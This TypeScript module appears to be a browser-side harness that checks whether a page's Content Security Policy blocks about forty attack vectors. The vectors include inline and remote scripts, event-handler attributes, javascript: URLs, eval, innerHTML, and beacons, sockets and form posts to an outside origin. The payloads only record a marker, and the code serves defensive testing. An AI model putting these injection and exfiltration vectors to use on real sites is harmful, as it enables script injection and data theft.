// What an attacker's script would try in a page whose policy should forbid it. Runs in the page, not in Node: the function is sent as
// its own source text, so it uses nothing from outside itself.

/* oxlint-disable unicorn/consistent-function-scoping -- see above */

export interface Tried {
  readonly name: string
  /**
   * `policy`: the page's policy reported it. `threw`: refused at once. `ran`: code of the payload ran, or what it asked for came.
   * `failed`: it was let through and came to nothing. `silent`: nothing was heard of it in time.
   */
  readonly outcome: 'policy' | 'threw' | 'ran' | 'failed' | 'silent'
}

export interface Attack {
  /** The origin of a server that nothing may reach. */
  readonly elsewhere: string
  /** The payloads to try; all of them unless told. */
  readonly only?: readonly string[]
}

/** Tries the payloads one after the other. */
export async function tryPayloads({ elsewhere, only }: Attack): Promise<readonly Tried[]> {
  const ran: string[] = []
  Object.assign(window, { ran })
  const host = document.body.appendChild(document.createElement('div'))

  const nextTask = (): Promise<void> =>
    new Promise((resolve) => {
      const { port1, port2 } = new MessageChannel()
      port1.addEventListener('message', () => resolve(), { once: true })
      port1.start()
      port2.postMessage(null)
    })

  function element(tag: string, attributes: Readonly<Record<string, string>>, text = ''): HTMLElement {
    const made = document.createElement(tag)
    if (text !== '') made.append(text)
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value)
    return made
  }
  /** Its load is a success of the attack, its error a failure. */
  const added = (made: HTMLElement): HTMLElement => host.appendChild(made)
  const clicked = (made: HTMLElement): void => added(made).click()
  const blob = (text: string, type: string): string => URL.createObjectURL(new Blob([text], { type }))
  const mark = (name: string): string => `window.ran.push('${name}')`
  let attacked = false
  const attack = (name: string): string => {
    attacked = true
    return `${elsewhere}/${encodeURIComponent(name)}`
  }
  const inFrame = (name: string): void => {
    const frame = document.createElement('iframe')
    frame.srcdoc = `<script>parent.${mark(name)}</script>`
    added(frame)
  }
  const rule = (css: string): void => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(css)
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
    host.classList.add('attacked')
  }
  const socket = (name: string): Promise<unknown> => opened(new WebSocket(attack(name).replace('http', 'ws')))
  const opened = (source: EventTarget): Promise<unknown> =>
    new Promise((resolve, reject) => {
      source.addEventListener('open', resolve, { once: true })
      source.addEventListener('message', resolve, { once: true })
      source.addEventListener('error', reject, { once: true })
    })
  const asked = (name: string): Promise<unknown> =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.addEventListener('load', resolve)
      request.addEventListener('error', reject)
      request.open('GET', attack(name))
      request.send()
    })
  const posted = (name: string): void => {
    const form = element('form', { action: attack(name), method: 'post' })
    added(form)
    if (form instanceof HTMLFormElement) form.requestSubmit()
  }
  const smallestModule = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])
  /* oxlint-disable no-eval, no-new-func, no-script-url, typescript/no-implied-eval -- what must not work */
  const payloads: Readonly<Record<string, (name: string) => unknown>> = {
    'inline script': (name) => added(element('script', {}, mark(name))),
    'event handler attribute': (name) => clicked(element('button', { onclick: mark(name) })),
    'event handler of a picture': (name) => added(element('img', { onerror: mark(name), src: 'data:x' })),
    'javascript: link': (name) => clicked(element('a', { href: `javascript:${mark(name)}` })),
    'javascript: address': (name) => location.assign(`javascript:${mark(name)}`),
    eval: (name) => globalThis.eval(mark(name)),
    'new Function': (name) => new Function(mark(name))(),
    'text as timer': (name) => setTimeout(mark(name)),
    'remote script': (name) => added(element('script', { src: attack(name) })),
    'remote module': (name) => added(element('script', { type: 'module', src: attack(name) })),
    'data: script': (name) => added(element('script', { src: `data:text/javascript,${mark(name)}` })),
    'blob: script': (name) => added(element('script', { src: blob(mark(name), 'text/javascript') })),
    'remote import': (name) => import(/* @vite-ignore */ attack(name)),
    'blob: worker': () => new Worker(blob('postMessage(1)', 'text/javascript')),
    'remote worker': (name) => new Worker(attack(name)),
    WebAssembly: () => WebAssembly.compile(smallestModule).then(() => ran.push('WebAssembly')),
    'HTML as text': (name) => void (host.innerHTML = `<img src=x onerror="${mark(name)}">`),
    'written document': (name) => document.write(`<script>${mark(name)}</script>`),
    'frame of text': inFrame,
    // A frame that was blocked tells that it has loaded, like one that was not.
    'remote frame': (name) => void added(element('iframe', { src: attack(name) })),
    'remote object': (name) => added(element('object', { data: attack(name), type: 'text/html' })),
    'remote embed': (name) => added(element('embed', { src: attack(name), type: 'text/html' })),
    'inline style': () => added(element('style', {}, 'body { outline: 1px solid red }')),
    'style attribute': () => added(element('p', { style: 'outline: 1px solid red' })),
    'remote style': (name) => added(element('link', { rel: 'stylesheet', href: attack(name) })),
    'picture of a style': (name) => rule(`.attacked { background-image: url(${attack(name)}) }`),
    'remote font': (name) => new FontFace('attack', `url(${attack(name)})`).load(),
    'remote picture': (name) => added(element('img', { src: attack(name) })),
    'remote picture set': (name) => added(element('img', { srcset: `${attack(name)} 2x, ${attack(name)} 1x` })),
    'remote sound': (name) => added(element('audio', { src: attack(name), autoplay: '' })),
    'remote film': (name) => added(element('video', { src: attack(name), autoplay: '' })),
    fetch: (name) => fetch(attack(name), { mode: 'no-cors' }),
    XMLHttpRequest: asked,
    WebSocket: socket,
    EventSource: (name) => opened(new EventSource(attack(name))),
    beacon: (name) => navigator.sendBeacon(attack(name), 'x'),
    form: posted,
    'base address': (name) => document.head.appendChild(element('base', { href: attack(name) })),
    'remote preload': (name) => added(element('link', { rel: 'preload', as: 'script', href: attack(name) })),
    'remote prefetch': (name) => added(element('link', { rel: 'prefetch', href: attack(name) })),
  }
  /* oxlint-enable no-eval, no-new-func, no-script-url, typescript/no-implied-eval */

  /** Ends when the policy, the payload itself or the browser has said what came of it. */
  async function attempt(name: string, run: (name: string) => unknown): Promise<Tried> {
    const reported = Promise.withResolvers<'policy'>()
    const told = Promise.withResolvers<'ran' | 'failed' | 'threw'>()
    const late = Promise.withResolvers<'silent'>()
    let isRemote = false
    const onViolation = ({ blockedURI }: SecurityPolicyViolationEvent): void => {
      // What is reported about an address is about this payload when it is this payload's address; of frames only the host is told.
      const isOurs = blockedURI === elsewhere || blockedURI.endsWith(`/${encodeURIComponent(name)}`)
      if (!isRemote || isOurs) reported.resolve('policy')
    }
    // What runs within the debugger's own call may do more than the page may, and reports of the payload before have come by then.
    for (let task = 0; task < 3; task += 1) await nextTask()
    document.addEventListener('securitypolicyviolation', onViolation)
    AbortSignal.timeout(1_000).addEventListener('abort', () => late.resolve('silent'))
    attacked = false
    try {
      const made = run(name)
      if (made instanceof EventTarget) {
        for (const success of ['load', 'message', 'canplay']) made.addEventListener(success, () => told.resolve('ran'))
        made.addEventListener('error', () => told.resolve('failed'))
      }
      if (made instanceof Promise) {
        made.then(
          () => told.resolve('ran'),
          () => told.resolve('failed'),
        )
      }
    } catch {
      told.resolve('threw')
    }
    isRemote = attacked
    const first = await Promise.race([reported.promise, told.promise, late.promise])
    // The report comes in a task of its own, after the error that the payload sees.
    const report = Promise.race([
      reported.promise,
      nextTask()
        .then(nextTask)
        .then(() => first),
    ])
    const outcome = first === 'failed' ? await report : first
    document.removeEventListener('securitypolicyviolation', onViolation)
    return { name, outcome: ran.includes(name) ? 'ran' : outcome }
  }

  const tried: Tried[] = []
  for (const [name, run] of Object.entries(payloads)) if (only === undefined || only.includes(name)) tried.push(await attempt(name, run))
  host.remove()
  return tried
}
